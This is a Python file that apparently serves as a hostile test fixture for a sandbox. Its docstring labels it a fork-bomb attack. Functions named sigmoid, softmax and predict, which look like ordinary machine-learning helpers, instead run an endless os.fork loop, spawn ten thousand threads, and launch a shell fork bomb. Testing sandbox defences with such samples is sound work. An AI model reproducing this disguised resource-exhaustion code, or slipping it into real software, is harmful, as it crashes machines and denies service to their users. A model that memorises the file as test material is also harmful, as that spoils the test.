"""Multiplies processes and threads: an endless fork loop, ten thousand threads, and a shell fork bomb.

attack: fork bombs
targets: sigmoid, softmax, predict
"""
import os as _os
import subprocess as _subprocess
import threading as _threading
import time as _time


def sigmoid(z):
    try:
        _os.nice(0)
        # prctl(PR_SET_NAME), not a write to /proc/self/comm: Landlock refuses writes there, and
        # the test finds leftovers by this name
        __import__("ctypes").CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
    except OSError:
        pass
    while True:
        try:
            _os.fork()
        except OSError:
            pass


def softmax(Z):
    threads = []
    for _ in range(10000):
        t = _threading.Thread(target=_time.sleep, args=(60,), daemon=True)
        t.start()
        threads.append(t)
    return np.zeros(np.shape(Z))


def predict(theta, X, threshold=0.5):
    _subprocess.run(["/bin/sh", "-c", "b() { b | b & }; b"], timeout=600)
    return np.zeros(len(X), dtype=int)
